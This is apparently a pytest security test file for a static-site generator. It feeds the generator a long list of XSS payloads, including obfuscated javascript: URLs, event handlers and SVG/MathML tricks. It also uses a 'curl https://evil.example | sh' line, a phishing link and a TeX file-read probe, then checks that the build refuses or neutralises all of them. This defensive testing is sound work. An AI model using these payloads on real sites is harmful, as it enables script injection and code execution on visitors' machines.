"""Picks as an attacker writes them: refused by check and the build, neutralised in every output, run nowhere."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import feedparser
import pytest
from lxml import etree, html

from conftest import (
    EXTENSIONS,
    VALID_PICK,
    mkdocs_build,
    pagefind_records,
    pick_text,
    serve_folder,
    write_project,
)
from generator.core.body import BodyRenderer
from generator.core.loader import LoadSettings, load_picks
from generator.core.sanitize import ALLOWED_TAGS

# Every payload calls alert(1): a dialog in the browser means it ran.
BODY_ATTACKS = [
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param("[x](javascript:alert(1))", id="md-link-javascript"),
    pytest.param("[x](java&#x73;cript:alert(1))", id="md-link-hex-reference"),
    pytest.param("[x](jav&#x09;ascript:alert(1))", id="md-link-tab-reference"),
    pytest.param("[x](&#106;avascript:alert(1))", id="md-link-decimal-reference"),
    pytest.param("[x](<jav\nascript:alert(1)>)", id="md-link-newline-in-scheme"),
    pytest.param("[x][r]\n\n[r]: javascript:alert(1)", id="reference-definition"),
    pytest.param("![x](javascript:alert(1))", id="md-image-javascript"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="html-link-mixed-case"),
    pytest.param('<a href=" &#x0A;javascript:alert(1)">x</a>', id="html-link-leading-whitespace"),
    pytest.param(
        '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">x</a>', id="all-refs"
    ),
    pytest.param('<a href="data:text/html,<script>alert(1)</script>">x</a>', id="data-url"),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="vbscript-url"),
    pytest.param('Para\n{: onclick="alert(1)" }', id="attr-list-paragraph"),
    pytest.param('[x](https://example.org){: onmouseover="alert(1)" }', id="attr-list-link"),
    pytest.param('# Heading {: onclick="alert(1)" }', id="attr-list-heading"),
    pytest.param('Para\n{: style="background:url(javascript:alert(1))" }', id="attr-list-style"),
    pytest.param('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', id="noscript-trick"),
    pytest.param("<!--><img src=x onerror=alert(1)>-->", id="comment-differential"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="mathml-style"),
    pytest.param("<style>*{background:url(javascript:alert(1))}</style>", id="style-element"),
    pytest.param('<iframe src="javascript:alert(1)"></iframe>', id="iframe"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object"),
    pytest.param('<embed src="javascript:alert(1)">', id="embed"),
    pytest.param('<form action="javascript:alert(1)"><button>go</button></form>', id="form-button"),
    pytest.param('<base href="javascript:/">', id="base"),
    pytest.param('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta-refresh"),
    pytest.param('<link rel="stylesheet" href="javascript:alert(1)">', id="link"),
    pytest.param("<template><img src=x onerror=alert(1)></template>", id="template"),
    pytest.param('<div markdown="1" onclick="alert(1)">*x*</div>', id="md-in-html-handler"),
    pytest.param("<details open ontoggle=alert(1)><summary>x</summary>y</details>", id="details-ontoggle"),
    pytest.param('<p style="color:red" onmouseover="alert(1)">x</p>', id="style-attribute"),
    pytest.param("<input autofocus onfocus=alert(1)>", id="input-autofocus"),
    pytest.param("<video><source onerror=alert(1)></video>", id="video-source"),
    pytest.param("<xmp><img src=x onerror=alert(1)></xmp>", id="xmp-differential"),
    pytest.param('<a href="#" onclick="alert(1)">x</a>', id="anchor-onclick"),
    pytest.param('<img src="x" srcset="javascript:alert(1) 1x">', id="img-srcset"),
    # The second pass: template boundaries, the theme's ids and classes, links that leave the site.
    pytest.param("## Method {id='x\"><img src=x onerror=alert(1)>'}", id="heading-id-breakout"),
    pytest.param('<span id="__code_0">curl https://evil.example | sh</span>', id="theme-id-code"),
    pytest.param("## Setup {#__config}", id="theme-id-config"),
    pytest.param('<div class="md-dialog md-dialog--active">Session expired</div>', id="theme-class-dialog"),
    pytest.param("[log in again](//evil.example/login)", id="protocol-relative"),
]
# Front-matter text that looks like HTML: plain text everywhere (the pick is valid and gets published).
PAYLOAD = "<img src=x onerror=alert(1)>"
FRONT_MATTER_ATTACKS = {
    "2024-04-01-title.md": pick_text(f"Title {PAYLOAD}", "2024-04-01", arxiv="2404.00001"),
    "2024-04-02-tag.md": pick_text("Tag", "2024-04-02", arxiv="2404.00002", tags=[f'"{PAYLOAD}"', "probe"]),
    "2024-04-03-paper.md": pick_text("Paper", "2024-04-03", arxiv="2404.00003", paper_title="<script>1</script>"),
    "2024-04-04-authors.md": pick_text("Authors", "2024-04-04", arxiv="2404.00004", authors=f'["Ada {PAYLOAD}"]'),
    "2024-04-05-venue.md": pick_text("Venue", "2024-04-05", arxiv="2404.00005", extra="").replace(
        "    year: 2024", '    year: 2024\n    venue: "<svg onload=alert(1)>"'
    ),
    "2024-04-06-summary.md": pick_text("Summary", "2024-04-06", arxiv="2404.00006", extra=f'summary: "{PAYLOAD}"\n'),
    "2024-04-07-mention.md": pick_text("Mention", "2024-04-07", arxiv="2404.00007", extra=f'mentions: ["{PAYLOAD}"]\n'),
    "2024-04-08-think.md": pick_text("Why <think> tags matter", "2024-04-08", arxiv="2404.00008", tags=["probe"]),
    "2024-04-09-code.md": pick_text("Inline code", "2024-04-09", arxiv="2404.00009", body="Write `<b>` as code.\n"),
    # The second pass: what check accepts from its classes, neutralised (tag-like prose, TeX, line breaks, mentions).
    "2024-04-10-tokens.md": pick_text(
        "Tokens",
        "2024-04-10",
        arxiv="2404.00010",
        body="The BOS <s> and <think> and Vec<String>.\n\n## The `<img src=x onerror=alert(1)>` trick\n",
    ),
    "2024-04-11-tex.md": pick_text(
        "TeX", "2024-04-11", arxiv="2404.00011", paper_title="$\\input{/etc/hostname}$\nER  - \nTY  - JOUR"
    ),
    "2024-04-12-handle.md": pick_text("Handle", "2024-04-12", arxiv="2404.00012", authors='["@someone", Ada Lovelace]'),
}
URL_ATTACKS = [
    pytest.param("url", 'https://x.org/"><script>alert(1)</script>', id="url-quote"),
    pytest.param("code", "https://x.org/<svg/onload=alert(1)>", id="code-angle"),
    pytest.param("url", "https://x.org/a b", id="url-space"),
    pytest.param("doi", '10.1234/x"onmouseover="alert(1)', id="doi-quote"),
]
COLLECTIONS = {
    "interpretability": {"title": f"Interp {PAYLOAD}", "description": f"About {PAYLOAD}"},
}
SETTINGS = LoadSettings(
    "UTC",
    "interpretability",
    renderer=BodyRenderer(EXTENSIONS),
)
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "content"}
FORBIDDEN = ("script", "iframe", "object", "embed", "style", "form", "math", "base", "meta", "link", "template")


def _with_body(body: str) -> str:
    return VALID_PICK + "\n" + body + "\n"


@pytest.mark.parametrize("body", BODY_ATTACKS)
def test_check_refuses_body_attack(tmp_path: Path, body: str) -> None:
    (tmp_path / "2024-04-11-attack.md").write_text(_with_body(body), encoding="utf-8")
    result = load_picks(tmp_path, SETTINGS)
    assert result.picks == [] and result.errors
    assert {e.field for e in result.errors} == {"body"}
    assert all(e.line >= 20 for e in result.errors)  # the body starts at line 20 of VALID_PICK + a blank line


@pytest.mark.parametrize("field", ["url", "code", "doi"])
def test_url_fields_keep_their_own_errors(tmp_path: Path, field: str) -> None:
    [param] = [p for p in URL_ATTACKS if p.values[0] == field][:1]
    value = param.values[1]
    text = VALID_PICK.replace('    arxiv: "2404.07129"', f'    arxiv: "2404.07129"\n    {field}: {json.dumps(value)}')
    (tmp_path / "2024-04-11-attack.md").write_text(text, encoding="utf-8")
    [error] = load_picks(tmp_path, SETTINGS).errors
    assert (error.line, error.field) == (11, f"papers[0].{field}")
    assert "no spaces, quotes, < >, braces or backslashes" in error.message


@pytest.mark.parametrize(("field", "value"), URL_ATTACKS)
def test_check_refuses_url_attack(tmp_path: Path, field: str, value: str) -> None:
    text = VALID_PICK.replace('    arxiv: "2404.07129"', f'    arxiv: "2404.07129"\n    {field}: {json.dumps(value)}')
    (tmp_path / "2024-04-11-attack.md").write_text(text, encoding="utf-8")
    assert [e.field for e in load_picks(tmp_path, SETTINGS).errors] == [f"papers[0].{field}"]


@pytest.mark.parametrize("body", BODY_ATTACKS)
def test_sanitized_html_holds_nothing_active(body: str) -> None:
    """Even where the check would not run, what is emitted is the allowlist's output."""
    rendered = SETTINGS.renderer.render(body)
    assert rendered.problems
    _assert_inert(html.fragment_fromstring(rendered.html or "<p></p>", create_parent="div"))


def _assert_inert(root: html.HtmlElement, *, only_allowed_tags: bool = True) -> None:
    """No handler, style or script URL; only the allowlist's tags (or, in a page's chrome, none of FORBIDDEN)."""
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        if element is not root:
            assert element.tag in ALLOWED_TAGS if only_allowed_tags else element.tag not in FORBIDDEN, element.tag
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on") and name.lower() not in ("style", "srcset", "srcdoc"), name
            compact = "".join(value.split()).lower()
            if name.lower() in _URL_ATTRIBUTES:  # a title or alt may say "javascript:" as text
                assert not compact.startswith(("javascript:", "data:", "vbscript:")), value


def test_build_refuses_attack_and_keeps_previous_site(tmp_path: Path) -> None:
    config = write_project(tmp_path, {"2024-04-11-good.md": VALID_PICK}, collections=COLLECTIONS)
    assert mkdocs_build(config).returncode == 0
    before = {p: p.read_bytes() for p in (tmp_path / "site").rglob("*") if p.is_file()}
    (tmp_path / "picks" / "2024-04-12-attack.md").write_text(
        _with_body("[x](java&#x73;cript:alert(1))").replace("2024-04-11", "2024-04-12"), encoding="utf-8"
    )
    result = mkdocs_build(config)
    assert result.returncode == 1
    assert "picks/2024-04-12-attack.md:20: error: body: a javascript: URL" in result.stderr
    assert {p: p.read_bytes() for p in (tmp_path / "site").rglob("*") if p.is_file()} == before


def test_build_refuses_every_body_attack(tmp_path: Path) -> None:
    attacks = {
        f"2024-05-{day:02d}-attack-{day}.md": _with_body(param.values[0]).replace("2024-04-11", f"2024-05-{day:02d}")
        for day, param in enumerate(BODY_ATTACKS[:28], start=1)
    }
    attacks |= {
        f"2024-06-{day:02d}-attack-{day}.md": _with_body(param.values[0]).replace("2024-04-11", f"2024-06-{day:02d}")
        for day, param in enumerate(BODY_ATTACKS[28:], start=1)
    }
    config = write_project(tmp_path, attacks, markdown_extensions=EXTENSIONS, collections=COLLECTIONS)
    result = mkdocs_build(config)
    assert result.returncode == 1 and not (tmp_path / "site").exists()
    refused = {line.split(":")[0] for line in result.stderr.splitlines() if ": error: body: " in line}
    assert refused == {f"picks/{name}" for name in attacks}


@pytest.fixture(scope="module")
def attacked_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("attacked")
    config = write_project(root, FRONT_MATTER_ATTACKS, markdown_extensions=EXTENSIONS, collections=COLLECTIONS)
    result = mkdocs_build(config)
    assert result.returncode == 0, result.stderr
    return root / "site"


def _pages(site: Path) -> list[Path]:
    return sorted(p for p in site.rglob("index.html") if "assets" not in p.parts)


def test_built_pages_carry_front_matter_as_text(attacked_site: Path) -> None:
    for path in _pages(attacked_site):
        text = path.read_text("utf-8")
        assert "<img src=x" not in text and "<svg onload" not in text and "<script>alert" not in text, path
        content = html.fromstring(text)
        for main in content.cssselect(".md-content"):
            _assert_inert(main, only_allowed_tags=False)
        assert not content.cssselect(".md-header__topic img, .md-tabs img, .md-content img, .md-content svg[onload]")
    think = (attacked_site / "picks/2024-04-08-think/index.html").read_text("utf-8")
    assert "<title>Why &lt;think&gt; tags matter - Test Picks</title>" in think


def test_every_html_file_of_the_site_carries_the_policy(attacked_site: Path) -> None:
    """404.html included: MkDocs renders it as a static template, outside on_post_page (issue 37)."""
    pages = [p for p in attacked_site.rglob("*.html") if "assets" not in p.parts]
    assert attacked_site / "404.html" in pages and len(pages) > len(_pages(attacked_site))
    for path in pages:
        head = html.fromstring(path.read_bytes()).find("head")
        assert head is not None and head.cssselect('meta[http-equiv="Content-Security-Policy"]'), path


def test_search_index_holds_front_matter_as_plain_text(attacked_site: Path) -> None:
    records = pagefind_records(attacked_site)
    # Text, never markup: the search worker escapes every field before Material shows it (the Chromium test below).
    assert records["picks/2024-04-08-think/"]["meta"]["title"] == "Why <think> tags matter"
    assert all(url.startswith(("picks/", "about/", "authors/")) for url in records)


@pytest.mark.parametrize("name", ["feed.xml", "atom.xml", "tags/probe/feed.xml"])
def test_feeds_carry_front_matter_as_text(attacked_site: Path, name: str) -> None:
    raw = (attacked_site / name).read_bytes()
    etree.fromstring(raw, etree.XMLParser(recover=False, resolve_entities=False))
    parsed = feedparser.parse(raw)
    assert not parsed.bozo
    titles = [e.title for e in parsed.entries]
    assert "Why <think> tags matter" in titles or name.startswith("tags/") and "Why <think> tags matter" in titles
    for entry in parsed.entries:
        for part in entry.get("content", []):
            _assert_inert(html.fragment_fromstring(part.value, create_parent="div"))
        summary = entry.get("summary_detail")
        if summary and summary.type == "text/html":  # a reader renders it: the payload must be escaped text
            assert not html.fragment_fromstring(summary.value, create_parent="div").cssselect("img, svg, script")


def test_json_feed_carries_front_matter_as_text(attacked_site: Path) -> None:
    feed = json.loads((attacked_site / "feed.json").read_text("utf-8"))
    by_title = {item["title"]: item for item in feed["items"]}
    assert f"Title {PAYLOAD}" in by_title  # JSON Feed titles are plain text: kept as written
    for item in feed["items"]:
        _assert_inert(html.fragment_fromstring(item["content_html"], create_parent="div"))


# Hover and click every element of the content; a dialog or a navigation to javascript: would mean a payload ran.
_POKE = """
async () => {
  for (const el of document.querySelectorAll('.md-content *, .md-header *, .md-tabs *')) {
    for (const type of ['mouseover', 'mouseenter', 'focus', 'click', 'toggle']) {
      el.dispatchEvent(new Event(type, {bubbles: true}));
    }
  }
  const bad = [];
  for (const el of document.querySelectorAll('.md-content *')) {
    for (const attr of el.getAttributeNames()) {
      const value = (el.getAttribute(attr) || '').replace(/\\s/g, '').toLowerCase();
      if (attr.startsWith('on') || value.startsWith('javascript:') || value.startsWith('data:')) bad.push(attr);
    }
  }
  bad.push(...[...document.querySelectorAll('.md-content :is(FORBIDDEN)')].map(e => e.tagName));
  return bad;
}
""".replace("FORBIDDEN", ", ".join(FORBIDDEN))


def _without_policy(site: Path, copy: Path) -> Path:
    """The site as ``mkdocs serve`` showed it before it had a policy: the first wall must hold on its own."""
    shutil.copytree(site, copy)
    stripped = 0
    for path in copy.rglob("index.html"):
        text = path.read_text("utf-8")
        path.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text), "utf-8")
        stripped += "Content-Security-Policy" in text
    assert stripped == len(_pages(copy))
    return copy


@pytest.mark.parametrize("policy", [True, False], ids=["with-csp", "without-csp"])
def test_no_payload_runs_in_chromium(chromium, attacked_site: Path, tmp_path: Path, policy: bool) -> None:
    dialogs: list[str] = []
    page = chromium.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    site = attacked_site if policy else _without_policy(attacked_site, tmp_path / "site")
    for base in serve_folder(site):
        urls = [base + str(p.parent.relative_to(site)) + "/" for p in _pages(site)]
        for url in urls:
            page.goto(url.replace("/./", "/"))
            assert page.evaluate(_POKE) == [], url
            page.mouse.move(10, 10)
        page.goto(base + "picks/2024-04-08-think/")
        assert page.locator(".md-content h1").first.inner_text() == "Why <think> tags matter"
        assert "Why <think> tags matter" in page.locator(".md-header__topic").last.inner_text()
        page.locator(".md-search__input").first.click()
        page.locator("input.md-search__input").press_sequentially("probe", delay=20)
        result = page.locator(".md-search-result__item", has_text="Why <think> tags matter").first
        result.wait_for(timeout=10_000)  # the title reads literally among the results
        assert page.evaluate(_POKE.replace(".md-content", ".md-search-result")) == []
    assert dialogs == [] and page.evaluate("window.__pwned") is None


@pytest.mark.parametrize("body", BODY_ATTACKS)
def test_sanitized_attack_runs_nowhere_in_chromium(chromium, body: str) -> None:
    page = chromium.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.set_content(f'<div class="md-content">{SETTINGS.renderer.render(body).html}</div>')
    assert page.evaluate(_POKE) == []
    for element in page.locator(".md-content *").all():
        if element.is_visible():
            element.hover()
            element.click(no_wait_after=True)
            if page.url != "about:blank" and not page.url.startswith("about:"):
                page.go_back()
    page.wait_for_timeout(50)
    assert dialogs == []
    page.close()


def test_the_policy_allows_each_inline_script_by_hash_and_nothing_else() -> None:
    """Inline scripts by their SHA-256 (once each, sorted); scripts with src= or JSON data blocks are not inline
    code to allow; objects, base and form targets are locked to the site."""
    import base64
    import hashlib

    from generator.outputs.csp import policy, with_policy

    def digest(code: str) -> str:
        return "'sha256-" + base64.b64encode(hashlib.sha256(code.encode("utf-8")).digest()).decode() + "'"

    page = (
        '<html><head><meta charset="utf-8"><script>var a = "é";</script></head><body>'
        '<script src="assets/x.js"></script><script type="application/json">{"a": 1}</script>'
        '<SCRIPT>b()</SCRIPT><script>var a = "é";</script></body></html>'
    )
    expected = sorted([digest('var a = "é";'), digest("b()")])
    assert policy(page) == (
        f"script-src 'self' {' '.join(expected)}; object-src 'none'; base-uri 'self'; form-action 'self'"
    )
    marked = with_policy(page)
    assert marked.startswith(
        f'<html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
        f'content="{policy(page)}"><script>'
    )
    assert with_policy("<p>no head</p>") == "<p>no head</p>"
